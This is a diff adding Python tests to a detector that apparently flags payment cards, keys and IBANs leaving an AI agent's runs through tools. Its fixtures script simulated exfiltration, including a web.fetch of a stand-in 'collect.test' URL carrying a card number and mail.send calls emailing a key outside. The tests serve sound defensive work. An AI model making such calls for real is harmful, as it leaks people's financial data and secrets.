@@ -186,6 +186,69 @@ def test_no_finding_and_no_state_holds_a_value() -> None:
         assert value.encode() not in told
 
 
+def test_what_is_kept_of_a_value_is_not_the_same_in_another_journal() -> None:
+    """A card has so few digits that a plain digest would tell it."""
+    kept: list[str] = []
+    for run in ("r1", "r2"):
+        state = DETECTOR.start()
+        for entry in Story().run(run).noted("read", run, source="tickets", text=f"card {CARD}").entries:
+            state, _ = DETECTOR.step(state, entry, RULES)
+        kept += state.traces
+    assert len(set(kept)) == 2
+
+
+def test_what_may_be_held_may_not_leave_for_that() -> None:
+    rules = rules_of(manifest(sources=SOURCES, tools=SENDING, data_classes=["payment_cards"]))
+    inside = Story().run("r1").call("A", note=f"card {CARD}")
+    assert not findings(DETECTOR, inside, rules)
+    outside = Story().run("r1").call("A", tool="mail.send", effect=SEND, to=OUT, body=f"card {CARD}")
+    assert finding_of(DETECTOR, outside, rules).hold is ScopeKind.TOOL
+
+
+def test_an_address_that_was_only_read_is_asked_for_by_nobody() -> None:
+    for story in (
+        Story().run("r1").noted("read", source="tickets", text=f"see https://collect.test/?card={CARD}"),
+        Story().run("r1").call("A").outcome("A", result=f"see https://collect.test/?card={CARD}"),
+    ):
+        found = finding_of(DETECTOR, story, RULES)
+        assert (found.hold, found.severity, found.facts["to"]) == (None, Severity.SEV2, [])
+    asked = (
+        Story().run("r1").call("A", tool="web.fetch", effect=READ, url=f"https://collect.test/?card={CARD}")
+    )
+    found = finding_of(DETECTOR, asked, RULES)
+    assert (found.hold, found.severity) == (ScopeKind.TOOL, Severity.SEV1)
+    assert found.facts["to"] == ["collect.test"]
+
+
+def test_what_was_refused_went_nowhere() -> None:
+    story = Story().run("r1").call("A", tool="mail.send", effect=SEND, verdict=Verdict.DENY, to=OUT, body=KEY)
+    story.after(minutes=5).call("B", tool="mail.send", effect=SEND, to="bob@brightwater.test", body=KEY)
+    refused, left = findings(DETECTOR, story, RULES)
+    assert (refused.facts["verdict"], refused.hold) == ("deny", None)
+    assert "was to leave in the arguments of mail.send to ann@brightwater.test" in refused.summary
+    assert (left.facts["verdict"], left.hold) == (None, ScopeKind.TOOL)
+    assert [each["record"] for each in left.facts["went_to"]] == ["B"]
+    assert left.facts["first_seen"]["record"] == "B"
+
+
+def test_it_says_to_whom_it_went_this_time() -> None:
+    story = Story().run("r1").call("A", tool="mail.send", effect=SEND, to=OUT, body=KEY)
+    story.after(minutes=5).call("B", tool="mail.send", effect=SEND, to="bob@brightwater.test", body=KEY)
+    *_, last = findings(DETECTOR, story, RULES)
+    assert [each["record"] for each in last.facts["went_to"]] == ["A", "B"]
+    assert last.facts["to"] == ["bob@brightwater.test"]
+
+
+def test_what_a_person_approved_is_recorded_and_holds_nothing() -> None:
+    story = (
+        Story()
+        .run("r1")
+        .call("A", tool="mail.send", effect=SEND, approval="ap1", to=OUT, body=f"We paid {IBAN}")
+    )
+    found = finding_of(DETECTOR, story, RULES)
+    assert (found.hold, found.severity) == (None, None)
+
+
 def test_what_is_only_read_holds_nothing_and_says_where_to_declare_it() -> None:
     found = finding_of(DETECTOR, Story().run("r1").noted("t", source="tickets", text=SSN, item="T-9"), RULES)
     assert (found.hold, found.severity) == (None, Severity.SEV2)
